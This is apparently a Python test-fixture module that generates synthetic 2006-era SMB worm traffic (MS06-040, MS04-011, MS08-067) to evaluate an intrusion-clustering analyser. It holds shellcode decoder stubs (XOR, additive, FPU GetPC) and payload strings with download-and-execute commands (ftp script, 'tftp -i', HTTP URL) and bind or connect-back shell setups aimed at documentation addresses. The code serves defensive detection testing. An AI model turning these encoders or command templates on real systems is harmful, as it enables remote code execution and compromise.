"""Bot families for the demo and the campaign tests: *mimics* of how the bots of 2006 differed.

The names are borrowed from the period (W32.Wargbot / Mocbot exploited MS06-040 from 12 August
2006; Randex, SDbot, Rbot, Spybot and the IRCBot variants were the SMB worms of the years before);
the traits given to each are invented to be plausible, not taken from samples. A family fixes:

- its **exploit framing**: bulletin and exploit target (MS06-040 ``w2k``/``xp``/``xp-stack``/
  ``2003`` layouts of :mod:`stormwatch.demo.shapes`), service (139 NetBIOS or 445 direct TCP), the
  pipe, how many times it sends the call, whether OutbufLen / PathType are constants or random
  (Metasploit-style), the DCE/RPC fragment size;
- its **client stack**: SMB dialects offered (Windows 2000 offers six, most bots only
  ``NT LM 0.12``), legacy NULL session or NTLMSSP anonymous logon with a workstation name drawn
  from a pattern and fixed NTLMSSP flags, the NativeOS / NativeLanMan strings;
- its **payload**: a small hand-built shellcode, a GetPC stub and a decoder loop (single-byte XOR,
  additive, or dword XOR with an FPU GetPC) over a body that binds a shell, connects back, or
  downloads the bot (``echo open HOST PORT>o&...&ftp -n -s:o``, ``tftp -i``, an HTTP URL); the
  key is the family's, or drawn per bot (polymorphic). Documentation addresses (RFC 5737) or the
  bot's own address are the hosts. Nothing here is runnable attack code: the bodies name their
  API calls as strings and would not execute; the bytes only have the *shape* an analyser looks for.

Families with ``held_out=True`` were not looked at when the clustering threshold and weights were
set (tests/test_campaigns.py scores them separately); ``label`` is the family a variant belongs
to (Mocbot.B is a Mocbot).
"""

from __future__ import annotations

import random
import string
import struct
from dataclasses import dataclass

#: Bytes no shellcode here contains: a NUL can end the wide string, and ``\\ / .`` could spell a
#: traversal that would make an MS06-040 path look like MS08-067's. (Metasploit's longer list,
#: shapes.BAD_CHARS, leaves no single-byte key for bodies of 30-40 distinct bytes.)
BAD_CHARS = frozenset(b"\x00\x5c\x2f\x2e")

W2K_DIALECTS = ("PC NETWORK PROGRAM 1.0", "LANMAN1.0", "Windows for Workgroups 3.1a", "LM1.2X002", "LANMAN2.1",
                "NT LM 0.12")
NT_ONLY = ("NT LM 0.12",)


@dataclass(frozen=True)
class Framing:
    vuln: str  # MS06-040, MS04-011, MS08-067
    service: str  # netbios-ssn (139) or smb (445)
    pipe: str  # as the client writes it
    target: str = ""  # MS06-040 target (shapes.MS06_040_UNITS)
    calls: int = 1
    outbuf_len: int | None = None  # None: random per call
    path_type: int | None = None
    max_frag: int = 0  # DCE/RPC fragment size, 0: impacket's default (one fragment)


@dataclass(frozen=True)
class Stack:
    native_os: str
    native_lanman: str
    dialects: tuple[str, ...] = NT_ONLY
    ntlmssp: bool = False  # NTLMSSP anonymous logon (extended security), else a legacy NULL session
    workstation: str = ""  # pattern: A = upper-case letter, 9 = digit, a = lower-case, else literal
    domain: str = ""
    ntlm_flags: int = 0


@dataclass(frozen=True)
class Payload:
    decoder: str  # xor8 (jmp/call/pop), add8 (jmp/call/pop), xor32 (fnstenv)
    key: int | None  # None: a key per bot
    action: str  # bind, connect, ftp, tftp, http
    port: int
    host: str = "self"  # "self": the bot's own address
    file: str = ""


@dataclass(frozen=True)
class Family:
    name: str
    label: str  # the family a variant belongs to (ground truth)
    framing: Framing
    stack: Stack
    payload: Payload
    weight: float = 1.0
    held_out: bool = False
    check_first: float = 0.0  # share of visits that first send a probe in a session of their own (MS08-067)


FAMILIES: tuple[Family, ...] = (
    Family("Mocbot", "Mocbot",
           Framing("MS06-040", "netbios-ssn", "\\BROWSER", "w2k", calls=2),
           Stack("Windows 2000 2195", "Windows 2000 5.0", W2K_DIALECTS),
           Payload("xor8", 0x99, "tftp", 69, "203.0.113.66", "wgareg.exe"), weight=5.0),
    Family("Randex", "Randex",
           Framing("MS06-040", "smb", "\\SRVSVC", "xp", outbuf_len=100, path_type=4),
           Stack("Windows 2002 Service Pack 1 2600", "Windows 2002 5.1", NT_ONLY, ntlmssp=True,
                 workstation="AAAAAAAA", domain="WORKGROUP", ntlm_flags=0xA0080205),
           Payload("xor8", 0xBC, "ftp", 2121, "self", "msnmsgs.exe"), weight=2.0),
    Family("Rbot", "Rbot",
           Framing("MS06-040", "smb", "\\BROWSER", "xp-stack", calls=2, outbuf_len=1, path_type=1, max_frag=256),
           Stack("Windows 5.1", "Windows 2000 LAN Manager",
                 ("PC NETWORK PROGRAM 1.0", "LANMAN1.0", "LM1.2X002", "LANMAN2.1", "NT LM 0.12")),
           Payload("xor32", 0xDCA1FEBA, "connect", 4444, "198.51.100.9"), weight=1.5),
    Family("IRCBot", "IRCBot",
           Framing("MS06-040", "netbios-ssn", "\\SRVSVC", "2003"),
           Stack("Windows 2000 2195", "Windows 2000 5.0", NT_ONLY, ntlmssp=True, workstation="aaa-9999",
                 ntlm_flags=0x60088215),
           Payload("add8", None, "http", 8080, "198.51.100.23", "ircsvc.exe"), weight=1.0),
    Family("Spybot", "Spybot",
           Framing("MS04-011", "smb", "\\lsarpc"),
           Stack("Windows 2000 2195", "Windows 2000 5.0", W2K_DIALECTS),
           Payload("xor8", 0xD5, "bind", 9996), weight=1.0),
    Family("Metasploit", "Metasploit",
           Framing("MS08-067", "smb", "\\BROWSER"),
           Stack("Windows 2000 2195", "Windows 2000 5.0", NT_ONLY),
           Payload("xor32", None, "bind", 4444), weight=0.5, check_first=0.5),
    # -- held out of the tuning ---------------------------------------------------------------------
    Family("Sdbot", "Sdbot",
           Framing("MS04-011", "netbios-ssn", "\\lsarpc", max_frag=1024),
           Stack("Windows 2002 Service Pack 2 2600", "Windows 2002 5.1", NT_ONLY, ntlmssp=True,
                 workstation="PC-999999", domain="WORKGROUP", ntlm_flags=0xA0080205),
           Payload("xor32", 0x9BADBFC7, "ftp", 8021, "192.0.2.77", "sdsvc.exe"), weight=0.8, held_out=True),
    Family("Mocbot.B", "Mocbot",
           Framing("MS06-040", "smb", "\\BROWSER", "w2k", calls=2),
           Stack("Windows 2000 2195", "Windows 2000 5.0", W2K_DIALECTS),
           Payload("xor8", 0x9A, "tftp", 69, "203.0.113.67", "wgavn.exe"), weight=1.5, held_out=True),
)

BY_NAME = {f.name: f for f in FAMILIES}


def workstation(pattern: str, rng: random.Random) -> str:
    """A host name from ``pattern`` (A: A-Z, a: a-z, 9: a digit, anything else as written)."""
    pools = {"A": string.ascii_uppercase, "a": string.ascii_lowercase, "9": string.digits}
    return "".join(rng.choice(pools[c]) if c in pools else c for c in pattern)


# -- the shellcode ----------------------------------------------------------------------------------

def _sockaddr(port: int, ip: str = "0.0.0.0") -> bytes:
    """A struct sockaddr_in as the bind/connect shellcodes carry it: AF_INET, port (network order), address."""
    return b"\x02\x00" + struct.pack(">H", port) + bytes(int(x) for x in ip.split("."))


def body(p: Payload, src_ip: str) -> bytes:
    """The cleartext the decoder unpacks: API names and the command, URL or socket address."""
    host = src_ip if p.host == "self" else p.host
    if p.action == "ftp":
        cmd = (f"cmd /c echo open {host} {p.port}>o&echo user x x>>o&echo binary>>o&echo get {p.file}>>o"
               f"&echo bye>>o&ftp -n -s:o&del o&{p.file}")
        return b"kernel32\0WinExec\0ExitThread\0" + cmd.encode() + b"\0"
    if p.action == "tftp":
        return b"kernel32\0WinExec\0ExitThread\0" + f"cmd /c tftp -i {host} GET {p.file}&{p.file}".encode() + b"\0"
    if p.action == "http":
        return (b"urlmon\0URLDownloadToFileA\0kernel32\0WinExec\0" + f"http://{host}:{p.port}/{p.file}".encode()
                + b"\0" + p.file.encode() + b"\0")
    if p.action == "bind":
        return b"ws2_32\0WSASocketA\0bind\0listen\0accept\0CreateProcessA\0cmd\0" + _sockaddr(p.port)
    if p.action == "connect":
        return b"ws2_32\0WSASocketA\0connect\0CreateProcessA\0cmd\0" + _sockaddr(p.port, host)
    raise ValueError(f"unknown payload action {p.action!r}")


def _clean(data: bytes) -> bool:
    return not any(b in BAD_CHARS for b in data)


def encode(decoder: str, key: int, clear: bytes) -> bytes:
    """GetPC stub + decoder loop + encoded body; ValueError if a bad character cannot be avoided
    (the key does not suit the body)."""
    if decoder in ("xor8", "add8"):
        while len(clear) in BAD_CHARS:  # the count is a byte of the stub: pad the body instead
            clear += b"\0"
        if len(clear) > 255:
            raise ValueError("body too long for a byte count")
        if decoder == "xor8":
            enc, op = bytes(b ^ key for b in clear), b"\x80\x36" + bytes([key])  # xor byte [esi], key
        else:
            enc, op = bytes((b - key) & 0xFF for b in clear), b"\x80\x06" + bytes([key])  # add byte [esi], key
        # jmp short call; decoder: pop esi; xor ecx,ecx; mov cl,n; op; inc esi; loop; jmp body; (a nop
        # that keeps the jump's offset off 0x0d, a bad character); call decoder
        stub = (b"\xeb\x0e" + b"\x5e" + b"\x31\xc9" + b"\xb1" + bytes([len(clear)]) + op + b"\x46" + b"\xe2\xfa"
                + b"\xeb\x06" + b"\x90" + b"\xe8\xed\xff\xff\xff")
    elif decoder == "xor32":
        clear += b"\0" * (-len(clear) % 4)
        while len(clear) // 4 in BAD_CHARS:
            clear += b"\0" * 4
        k = struct.pack("<I", key)
        enc = bytes(b ^ k[i % 4] for i, b in enumerate(clear))
        # fldz; fnstenv [esp-0xc]; pop ebx (GetPC); xor ecx,ecx; mov cl,n; xor dword [ebx+0x17],key;
        # sub ebx,-4; loop
        stub = (b"\xd9\xee\xd9\x74\x24\xf4\x5b\x31\xc9\xb1" + bytes([len(clear) // 4]) + b"\x81\x73\x17" + k
                + b"\x83\xeb\xfc\xe2\xf4")
    else:
        raise ValueError(f"unknown decoder {decoder!r}")
    code = stub + enc
    if not _clean(code):
        raise ValueError(f"{decoder} key {key:#x} leaves a bad character in the shellcode")
    return code


def shellcode(family: Family, rng: random.Random, src_ip: str) -> bytes:
    """The family's shellcode as the bot at ``src_ip`` sends it (a fresh key per bot when the
    family's key is None)."""
    p = family.payload
    clear = body(p, src_ip)
    if p.key is not None:
        return encode(p.decoder, p.key, clear)
    for _ in range(1000):
        key = rng.getrandbits(32 if p.decoder == "xor32" else 8)
        try:
            return encode(p.decoder, key, clear)
        except ValueError:
            continue
    raise ValueError(f"no clean key found for {family.name}")
